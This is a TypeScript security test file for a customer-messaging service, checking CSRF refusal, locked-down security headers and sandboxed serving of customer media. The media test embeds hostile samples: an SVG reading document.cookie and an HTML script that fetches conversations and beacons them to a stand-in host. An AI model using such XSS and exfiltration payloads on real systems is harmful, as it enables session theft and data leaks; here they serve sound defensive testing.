import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import Fastify from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { registerWebRoutes } from '../../src/http/routes/web.routes.js';
import type { Running } from '../../src/main.js';
import { ApiClient, createOperator, loginAdmin } from '../api/api-client.js';
import { MetaGraphFake } from '../fakes/meta-graph.fake.js';
import { metaImagePayload, sampleBytes, waitFor } from '../media/support.js';
import { postMeta, startTestServer, TEST_SECRETS } from '../support/app.js';

/**
 * Issue 14: cross-site requests cannot act with an operator's cookie, and every answer tells the
 * browser to run no foreign script, sniff nothing and allow no framing; customers' media are never
 * rendered as HTML or SVG by the browser.
 */
let graph: MetaGraphFake;
let server: Running;
let admin: ApiClient;
let operator: { client: ApiClient; id: string };
let cookie: string;

beforeAll(async () => {
  graph = await MetaGraphFake.start(TEST_SECRETS.META_ACCESS_TOKEN);
  server = await startTestServer({ META_GRAPH_URL: graph.graphUrl, JOB_POLL_MS: '20' });
  admin = await loginAdmin(server.url);
  operator = await createOperator(admin, 'csrf@example.test', 'Target');
  cookie = operator.client.credentials.cookie!;
});
afterAll(async () => {
  await server?.close();
  await graph?.close();
});

const status = async () => (await operator.client.get('/api/operators/me/status')).body.status as string;

describe('CSRF with a valid session cookie', () => {
  it('[§10 csrf] form, multipart without X-Requested-With and text/plain bodies are refused; nothing changes', async () => {
    const before = await status();
    const attempts: [string, RequestInit][] = [
      ['urlencoded', { headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'status=busy' }],
      ['text/plain', { headers: { 'content-type': 'text/plain' }, body: '{"status":"busy"}' }],
      ['text/plain json-looking with charset', { headers: { 'content-type': 'text/plain; charset=utf-8' }, body: '{"status":"busy"}' }],
      [
        'multipart',
        {
          body: (() => {
            const f = new FormData();
            f.set('status', 'busy');
            return f;
          })(),
        },
      ],
      ['no body at all', {}],
    ];
    for (const [name, init] of attempts) {
      const res = await fetch(`${server.url}/api/operators/me/status`, {
        method: 'PUT',
        ...init,
        headers: { ...(init.headers as Record<string, string>), cookie },
      });
      expect(res.status, name).toBe(403);
      expect((await res.json()).error.code).toBe('forbidden');
    }
    const form = new FormData();
    form.set('text', 'sent by a foreign page');
    const upload = await fetch(`${server.url}/api/conversations/x/messages`, { method: 'POST', body: form, headers: { cookie } });
    expect(upload.status).toBe(403);
    expect(await status()).toBe(before);
  });

  it('[§10 csrf] JSON from a foreign Origin, Origin: null or Sec-Fetch-Site: cross-site is refused; the same origin passes', async () => {
    const before = await status();
    const next = before === 'busy' ? 'available' : 'busy';
    const send = (headers: Record<string, string>) =>
      fetch(`${server.url}/api/operators/me/status`, {
        method: 'PUT',
        headers: { 'content-type': 'application/json', cookie, ...headers },
        body: JSON.stringify({ status: next }),
      });
    for (const headers of [
      { origin: 'https://evil.example' } as Record<string, string>,
      { origin: 'null' },
      { origin: `${server.url}.evil.example` },
      { origin: 'http://127.0.0.1:1' },
      { 'sec-fetch-site': 'cross-site' },
      { 'sec-fetch-site': 'same-site' },
      { origin: server.url, 'sec-fetch-site': 'cross-site' },
    ]) {
      const res = await send(headers);
      expect(res.status, JSON.stringify(headers)).toBe(403);
    }
    expect(await status()).toBe(before);
    expect((await send({ origin: server.url, 'sec-fetch-site': 'same-origin' })).status).toBe(200);
    expect(await status()).toBe(next);
  });

  it('[§10 csrf] a login from a foreign page is refused (login CSRF), as is a form login', async () => {
    const body = JSON.stringify({ email: 'csrf@example.test', password: 'pw-csrf@example.test-secret' });
    const foreign = await fetch(`${server.url}/api/auth/login`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', origin: 'https://evil.example' },
      body,
    });
    expect(foreign.status).toBe(403);
    expect(foreign.headers.get('set-cookie')).toBeNull();
    const form = await fetch(`${server.url}/api/auth/login`, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: 'email=csrf%40example.test&password=x',
    });
    expect(form.status).toBe(403);
  });

  it('[§10 csrf] bearer tokens are not CSRF-able (a browser never attaches them): no proof or origin needed', async () => {
    const { token } = (await operator.client.post('/api/auth/tokens', { name: 'script' })).body;
    const res = await fetch(`${server.url}/api/conversations/x/read`, {
      method: 'POST',
      headers: { authorization: `Bearer ${token}`, origin: 'https://elsewhere.example', 'content-type': 'text/plain' },
      body: '',
    });
    expect(res.status).toBe(404);
  });
});

function expectLockedDown(headers: Headers, where: string): void {
  const csp = headers.get('content-security-policy') ?? '';
  expect(csp, where).toMatch(/frame-ancestors 'none'/);
  expect(csp, where).not.toMatch(/unsafe-inline|unsafe-eval/);
  expect(csp, where).toMatch(/(script-src 'self'|default-src 'none')/);
  expect(headers.get('x-content-type-options'), where).toBe('nosniff');
  expect(headers.get('x-frame-options'), where).toBe('DENY');
  expect(headers.get('referrer-policy'), where).toMatch(/^(no-referrer|same-origin|strict-origin)/);
}

describe('headers', () => {
  it('[§10 headers] API answers, errors, webhooks, metrics, health and the SSE stream: CSP without script, nosniff, DENY, Referrer-Policy', async () => {
    const sse = new AbortController();
    const answers: [string, Response][] = [
      ['GET /api/conversations', await fetch(`${server.url}/api/conversations`, { headers: { cookie } })],
      ['401', await fetch(`${server.url}/api/conversations`)],
      ['404', await fetch(`${server.url}/api/conversations/nope`, { headers: { cookie } })],
      ['400', await fetch(`${server.url}/api/conversations?limit=abc`, { headers: { cookie } })],
      ['403 csrf', await fetch(`${server.url}/api/operators/me/status`, { method: 'PUT', headers: { cookie } })],
      [
        'webhook 401',
        await fetch(`${server.url}/webhooks/meta`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' }),
      ],
      ['/metrics', await fetch(`${server.url}/metrics`)],
      ['/healthz', await fetch(`${server.url}/healthz`)],
      ['/readyz', await fetch(`${server.url}/readyz`)],
      ['openapi', await fetch(`${server.url}/api/openapi.json`, { headers: { cookie } })],
      ['dashboard /', await fetch(`${server.url}/`)],
      ['SSE', await fetch(`${server.url}/api/events`, { headers: { cookie }, signal: sse.signal })],
    ];
    for (const [where, res] of answers) expectLockedDown(res.headers, where);
    sse.abort();
  });

  it("[§11 headers] the dashboard files (/, /index.html, assets) carry script-src 'self' without unsafe-inline, and index.html has no inline script", async () => {
    const root = mkdtempSync(join(tmpdir(), 'sb-sec-web-'));
    mkdirSync(join(root, 'assets'), { recursive: true });
    writeFileSync(join(root, 'index.html'), '<!doctype html><div id="root"></div><script type="module" src="/assets/app-1.js"></script>');
    writeFileSync(join(root, 'assets', 'app-1.js'), 'console.log(1)');
    const web = Fastify();
    await registerWebRoutes(web, root);
    for (const url of ['/', '/index.html', '/assets/app-1.js', '/c/some-conversation']) {
      const res = await web.inject({ url });
      expect(res.statusCode, url).toBe(200);
      const headers = new Headers(res.headers as Record<string, string>);
      expectLockedDown(headers, url);
      expect(headers.get('content-security-policy')).toMatch(/script-src 'self'(;|$)/);
    }
    await web.close();
    // The source page the build starts from: every script is a file, so the policy can forbid inline ones.
    const page = readFileSync(fileURLToPath(new URL('../../web/index.html', import.meta.url)), 'utf8');
    const scripts = [...page.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/gi)];
    expect(scripts.length).toBeGreaterThan(0);
    for (const [, attributes, content] of scripts) {
      expect(attributes).toMatch(/\bsrc=/);
      expect(content!.trim()).toBe('');
    }
  });
});

describe('media content types', () => {
  async function ingest(name: string, mimeType: string, type: 'image' | 'document', bytes: Buffer) {
    const mediaId = `${name}${Date.now()}`;
    graph.addMedia(mediaId, { bytes, mimeType });
    expect((await postMeta(server.url, metaImagePayload(`wamid.CT${mediaId}`, mediaId, { mimeType, type }))).status).toBe(200);
    return waitFor(async () => {
      const m = await server.ctx.store.reader.selectFrom('media').selectAll().where('source_ref', '=', mediaId).executeTakeFirst();
      return m && m.status === 'ready' ? m : undefined;
    }, `media ${name}`);
  }

  it('[§10 media] SVG and HTML from a customer are attachments and sandboxed, never rendered inline; images inline with their type', async () => {
    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><script>alert(1)</script></svg>');
    const html = Buffer.from(
      '<!doctype html><script>fetch("/api/conversations").then(r=>r.text()).then(t=>navigator.sendBeacon("//evil",t))</script>',
    );
    const cases = [
      { name: 'svg', mime: 'image/svg+xml', type: 'image' as const, bytes: svg, inline: false },
      { name: 'html', mime: 'text/html', type: 'document' as const, bytes: html, inline: false },
      { name: 'xhtml', mime: 'application/xhtml+xml', type: 'document' as const, bytes: html, inline: false },
      { name: 'pdf', mime: 'application/pdf', type: 'document' as const, bytes: sampleBytes(500, 'pdf'), inline: false },
      { name: 'png', mime: 'image/png', type: 'image' as const, bytes: sampleBytes(500, 'png'), inline: true },
    ];
    for (const c of cases) {
      const media = await ingest(c.name, c.mime, c.type, c.bytes);
      const res = await fetch(`${server.url}/api/media/${media.media_id}`, { headers: { cookie } });
      expect(res.status, c.name).toBe(200);
      const type = res.headers.get('content-type')!;
      const csp = res.headers.get('content-security-policy') ?? '';
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
      expect(res.headers.get('x-frame-options')).toBe('DENY');
      if (c.inline) {
        expect(type).toBe(c.mime);
        expect(res.headers.get('content-disposition')).toMatch(/^inline/);
      } else {
        expect(res.headers.get('content-disposition'), c.name).toMatch(/^attachment/);
        expect(type === 'application/octet-stream' || csp.includes('sandbox'), `${c.name}: ${type} ${csp}`).toBe(true);
      }
      expect(csp).toMatch(/sandbox/);
      expect(csp).not.toMatch(/script-src/);
      expect(Buffer.from(await res.arrayBuffer()).equals(c.bytes)).toBe(true);
    }
  });
});
